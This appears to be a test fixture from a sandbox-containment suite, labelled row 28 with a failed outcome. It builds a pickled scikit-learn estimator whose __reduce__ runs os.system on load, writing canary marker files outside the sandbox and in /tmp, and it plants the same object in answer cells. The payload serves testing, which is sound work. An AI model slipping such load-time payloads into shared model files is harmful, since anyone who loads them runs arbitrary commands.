"""Ship a model file that runs code when it is loaded, and an estimator that runs code when it is copied.
Row 28. It is loaded where the learner's own code runs, and nowhere else.
"""

OUTCOME = "failed"
BEFORE = """
import os, pickle, sklearn.base

class Model(sklearn.base.BaseEstimator):
    def __reduce__(self):
        return os.system, (f"echo mark > {OUTSIDE['open']}/{OUTSIDE['mark']}; touch /tmp/{OUTSIDE['mark']}",)

with open("model.pkl", "wb") as file:
    pickle.dump(Model(), file)
pickle.load(open("model.pkl", "rb"))
"""
CELLS = {
    "share-answer": "def share(y, guess):\n    return Model()",
    "squares-answer": "squares = Model().get_params",
}
